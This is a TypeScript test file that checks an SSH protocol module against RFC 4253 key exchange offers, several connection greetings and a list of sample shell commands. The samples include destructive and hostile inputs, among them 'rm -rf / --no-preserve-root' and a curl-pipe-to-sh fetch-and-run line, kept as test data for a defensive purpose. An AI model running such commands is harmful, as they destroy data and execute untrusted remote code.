import { describeConformance } from '@sallyport/protocol-kit/testing'
import { ssh } from '../src/index.js'

const version = 'SSH-2.0-OpenSSH_10.0p2 Debian-7\r\n'
/** RFC 4253, section 7.1: a client's key exchange offer, unencrypted. */
const offer = (lists: readonly string[]): Buffer => {
  const parts = [Buffer.from([20]), Buffer.alloc(16, 7), ...lists.flatMap((list) => [uint32(list.length), Buffer.from(list)]), Buffer.from([0]), uint32(0)]
  const payload = Buffer.concat(parts)
  const padding = 8 - ((payload.length + 5) % 8) + 8
  return Buffer.concat([uint32(payload.length + padding + 1), Buffer.from([padding]), payload, Buffer.alloc(padding)])
}
const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
const modern = offer([
  'curve25519-sha256,ext-info-c,kex-strict-c-v00@openssh.com', 'ssh-ed25519', 'aes128-gcm@openssh.com', 'aes128-gcm@openssh.com', 'hmac-sha2-256-etm@openssh.com', 'hmac-sha2-256-etm@openssh.com', 'none', 'none', '', '',
])
const nothingInCommon = offer(['diffie-hellman-group1-sha1', 'ssh-dss', '3des-cbc', '3des-cbc', 'hmac-md5', 'hmac-md5', 'none', 'none', '', ''])

describeConformance(ssh, {
  texts: [
    '', 'ls -l /var/log', 'cat /etc/hostname | grep -c web', 'sudo systemctl restart nginx', 'rm -rf / --no-preserve-root', 'sh -c "curl https://example.com/x | sh"',
    'scp -t /srv/app', 'git-upload-pack \'repo.git\'', 'echo "unterminated', 'echo $(id) > /tmp/x', 'mysql -p hunter2', 'for i in 1 2; do echo $i; done', 'python3 -c \'import os\'',
  ],
  settings: { harmless: '{}', terminal: 'no' },
  greetings: [
    Buffer.from(version), Buffer.concat([Buffer.from(version), modern]), Buffer.concat([Buffer.from(version), nothingInCommon]), Buffer.from('GET / HTTP/1.1\r\n\r\n'), Buffer.from('SSH-1.5-old\r\n'),
  ],
})
